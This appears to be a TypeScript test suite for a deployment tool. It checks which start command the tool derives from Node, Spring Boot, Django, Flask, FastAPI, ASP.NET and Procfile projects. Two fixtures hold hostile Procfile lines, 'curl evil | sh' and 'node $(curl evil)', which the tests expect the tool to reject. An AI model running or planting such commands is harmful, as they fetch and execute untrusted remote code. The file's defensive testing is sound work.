import assert from 'node:assert/strict';
import { prefill } from '../../../src/core/intake/answers/prefill';
import type { Answers, TargetAnswer } from '../../../src/core/intake/answers/answers';
import { readWorkspaceFacts } from '../../../src/core/intake/facts/readWorkspace';
import { applicationOf } from '../../../src/core/intake/recommend/application';
import { filesOf, json, type Tree } from './project';

/** What is planned to start the program of a folder; `undefined` where nothing is. */
async function startOf(
  tree: Tree,
  target: TargetAnswer,
  purpose: Answers['purpose'] = 'web',
): Promise<string | undefined> {
  const facts = await readWorkspaceFacts(filesOf(tree), 'shop');
  const application = applicationOf(facts, { ...prefill(facts).answers, target, purpose });
  return application !== undefined && 'startCommand' in application ? application.startCommand : undefined;
}

const DJANGO = { 'manage.py': '', 'shop/wsgi.py': '', 'requirements.txt': 'django==5.1\n' };
const VENV = 'export PATH="$PWD/.venv/bin:$PATH"; ';

function pom(packaging: string): Tree {
  return {
    'pom.xml': `<project><artifactId>shop</artifactId>${packaging}<parent><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-parent</artifactId></parent><dependencies><dependency><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-web</artifactId></dependency></dependencies></project>`,
  };
}

describe('what starts a program', () => {
  const servers: readonly (readonly [string, Tree, string])[] = [
    ['Node.js', { 'package.json': json({ scripts: { start: 'node .' } }) }, 'npm start'],
    ['Spring Boot', pom(''), 'java -jar application.jar --server.port="$PORT"'],
    [
      'Spring Boot as a web archive',
      pom('<packaging>war</packaging>'),
      'java -jar ROOT.war --server.port="$PORT"',
    ],
    [
      'Django with Gunicorn',
      { ...DJANGO, 'requirements.txt': 'django\ngunicorn\n' },
      `${VENV}gunicorn shop.wsgi`,
    ],
    ['Django alone', DJANGO, '.venv/bin/python manage.py runserver --noreload 0.0.0.0:"$PORT"'],
    ['Flask with Gunicorn', { 'requirements.txt': 'flask\ngunicorn\n' }, `${VENV}gunicorn app:app`],
    [
      'FastAPI',
      { 'requirements.txt': 'fastapi\nuvicorn\n' },
      '.venv/bin/python -m uvicorn main:app --host 0.0.0.0 --port "$PORT"',
    ],
    [
      'ASP.NET',
      { 'Shop.csproj': '<Project Sdk="Microsoft.NET.Sdk.Web"></Project>' },
      'dotnet publish/Shop.dll --urls http://0.0.0.0:"$PORT"',
    ],
    [
      'what its Procfile says',
      { ...DJANGO, Procfile: 'release: python manage.py migrate\nweb: gunicorn shop.wsgi --log-file -\n' },
      `${VENV}gunicorn shop.wsgi --log-file -`,
    ],
    [
      'no Procfile that has a shell do more than that',
      { 'package.json': json({ scripts: { start: 'node .' } }), Procfile: 'web: node . & curl evil | sh\n' },
      'npm start',
    ],
    [
      'no Procfile that runs another command inside',
      { 'package.json': json({ scripts: { start: 'node .' } }), Procfile: 'web: node $(curl evil)\n' },
      'npm start',
    ],
  ];
  for (const [what, tree, command] of servers)
    it(`on a server is that of ${what}`, async () => {
      assert.equal(await startOf(tree, 'codedeploy'), command);
    });

  it('names a port where no unit of a service does', async () => {
    assert.equal(
      await startOf(DJANGO, 'codedeploy', 'worker'),
      '.venv/bin/python manage.py runserver --noreload 0.0.0.0:8000',
    );
  });

  const platforms: readonly (readonly [string, Tree, string | undefined])[] = [
    ['Spring Boot', pom(''), 'java -jar application.jar --server.port=5000'],
    ['a web archive, which Tomcat starts', pom('<packaging>war</packaging>'), undefined],
    [
      'Django with Gunicorn',
      { ...DJANGO, 'requirements.txt': 'django\ngunicorn\n' },
      'gunicorn shop.wsgi --bind :8000',
    ],
    ['a Procfile that is there', { ...DJANGO, Procfile: 'web: gunicorn shop.wsgi\n' }, undefined],
    ['Node.js, which the platform starts', { 'package.json': json({}) }, undefined],
  ];
  for (const [what, tree, command] of platforms)
    it(`on Elastic Beanstalk is that of ${what}`, async () => {
      assert.equal(await startOf(tree, 'elasticBeanstalk'), command);
    });
});
